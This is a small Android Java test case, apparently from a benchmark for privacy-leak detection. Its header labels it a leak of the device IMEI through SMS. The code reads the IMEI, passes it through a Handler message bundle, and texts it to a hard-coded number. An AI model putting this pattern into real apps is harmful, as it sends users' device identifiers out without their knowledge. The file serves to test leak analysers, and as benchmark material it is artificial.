// about       The message makes its bundle when it is first asked for it; the value is put in.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.os.Message;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private final Handler handler = new Handler() {
    @Override
    public void handleMessage(Message message) {
      String text = message.getData().getString("id");
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
  };

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Message message = handler.obtainMessage(1);
    message.getData().putString("id", phone.getDeviceId());
    message.getData().putString("other", "none");
    message.sendToTarget();
  }
}
